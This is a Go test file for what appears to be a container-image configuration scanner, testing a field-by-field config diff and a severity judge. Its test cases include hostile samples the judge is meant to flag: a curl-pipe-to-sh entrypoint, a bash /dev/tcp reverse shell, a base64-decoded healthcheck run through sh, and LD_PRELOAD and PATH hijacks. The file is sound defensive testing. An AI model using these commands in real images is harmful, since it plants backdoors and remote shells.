package imageconfig

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/seed-181f3109/assay/signatures"
)

const goldenConfig = `{"architecture":"amd64","created":"2024-01-01T00:00:00Z","config":{"User":"web","Env":["PATH=/usr/bin:/bin","A=1"],
"Entrypoint":["/entry"],"Cmd":null,"Labels":{"org.opencontainers.image.version":"1"},"ExposedPorts":{"80/tcp":{}},"Volumes":{},
"Healthcheck":{"Test":["CMD","true"],"Interval":5000000000}},"rootfs":{"type":"layers","diff_ids":["sha256:aa"]},"history":[{"created_by":"one"}]}`

func TestDiffNamesEveryField(t *testing.T) {
	suspect := `{"architecture":"amd64","created":"2024-01-02T00:00:00Z","config":{"User":"","Env":["PATH=/usr/bin:/bin","A=2","B="],
"Entrypoint":["/entry"],"Cmd":["x"],"Labels":{"org.opencontainers.image.version":"2"},"ExposedPorts":{"80/tcp":{},"4444/tcp":{}},
"Healthcheck":{"Test":["CMD","false"],"Interval":5000000000},"OnBuild":["RUN x"]},"rootfs":{"type":"layers","diff_ids":["sha256:aa","sha256:bb"]},"history":[{"created_by":"one"},{"created_by":"two"}]}`
	got, err := Diff([]byte(goldenConfig), []byte(suspect))
	if err != nil {
		t.Fatal(err)
	}
	var lines []string
	for _, c := range got {
		lines = append(lines, fmt.Sprintf("%s %s %v %v", c.Kind, c.Field, c.Old, c.New))
	}
	want := []string{
		"added Cmd <nil> [x]", "modified Env[A] 1 2", "added Env[B] <nil> ", "added ExposedPorts[4444/tcp] <nil> true",
		"modified Healthcheck[Test] [CMD true] [CMD false]", "modified Labels[org.opencontainers.image.version] 1 2",
		"added OnBuild <nil> [RUN x]", "removed User web <nil>", "modified created 2024-01-01T00:00:00Z 2024-01-02T00:00:00Z",
		"added history[1] <nil> map[created_by:two]", "modified rootfs[diff_ids] [sha256:aa] [sha256:aa sha256:bb]",
	}
	if !slices.Equal(lines, want) {
		t.Errorf("got\n%s\nwant\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
	}
	if same, err := Diff([]byte(goldenConfig), []byte(goldenConfig)); err != nil || len(same) != 0 {
		t.Errorf("same config: got %v, %v", same, err)
	}
	if _, err := Diff(nil, []byte(`["no object"]`)); err == nil {
		t.Error("a list is no configuration: got no error")
	}
}

func TestJudge(t *testing.T) {
	list := func(s ...string) any {
		var out []any
		for _, x := range s {
			out = append(out, x)
		}
		return out
	}
	for _, tt := range []struct {
		c        Change
		golden   bool
		severity signatures.Severity
		says     string
	}{
		{Change{"Env[LD_PRELOAD]", "added", nil, "/srv/x.so"}, true, signatures.Critical, "loader"},
		{Change{"Env[LD_PRELOAD]", "added", nil, "/srv/x.so"}, false, signatures.Critical, "loader"},
		{Change{"Env[PATH]", "modified", "/usr/bin:/bin", "/dev/shm/.b:/usr/bin:/bin"}, true, signatures.High, "/dev/shm/.b"},
		{Change{"Env[PATH]", "modified", "/usr/bin:/bin", "/opt/app/bin:/usr/bin:/bin"}, true, signatures.Medium, "/opt/app"},
		{Change{"Env[PATH]", "modified", "/usr/bin:/bin", "/usr/bin:/bin:/opt/app/bin"}, true, 0, ""},
		{Change{"Env[PATH]", "added", nil, "/usr/local/bin:/usr/bin"}, false, 0, ""},
		{Change{"Env[APP_VERSION]", "modified", "1", "2"}, true, 0, ""},
		{Change{"Env[NODE_PATH]", "added", nil, "/usr/lib/node"}, false, 0, ""},
		{Change{"Entrypoint", "modified", list("/e"), list("/bin/sh", "-c", "(curl -fs http://192.0.2.1/b | sh) & exec /e")}, true, signatures.Critical, "downloads"},
		{Change{"Entrypoint", "modified", list("/e"), list("/e2")}, true, signatures.Medium, "changed"},
		{Change{"Entrypoint", "added", nil, list("/e2")}, false, 0, ""},
		{Change{"Cmd", "modified", list(), list("/bin/sh", "-c", "cron && nginx -g 'daemon off;'")}, true, signatures.High, "shell"},
		{Change{"Cmd", "added", nil, list("bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/443 0>&1")}, false, signatures.Critical, "remote shell"},
		{Change{"Healthcheck[Test]", "added", nil, list("CMD-SHELL", "echo aWQ= | base64 -d | sh")}, true, signatures.Critical, "decodes"},
		{Change{"Healthcheck[Interval]", "added", nil, 5}, true, 0, ""},
		{Change{"User", "modified", "web", "0:0"}, true, signatures.Medium, "root"},
		{Change{"User", "removed", "web", nil}, true, signatures.Medium, "root"},
		{Change{"User", "modified", "root", "0"}, true, 0, ""},
		{Change{"Labels[a]", "added", nil, "b"}, true, 0, ""},
	} {
		m, ok := Judge(tt.c, tt.golden)
		if ok != (tt.says != "") || m.Severity != tt.severity || !strings.Contains(m.Title+m.Explain, tt.says) {
			t.Errorf("%+v: got %v %s %q, want %s with %q", tt.c, ok, m.Severity, m.Explain, tt.severity, tt.says)
		}
	}
}
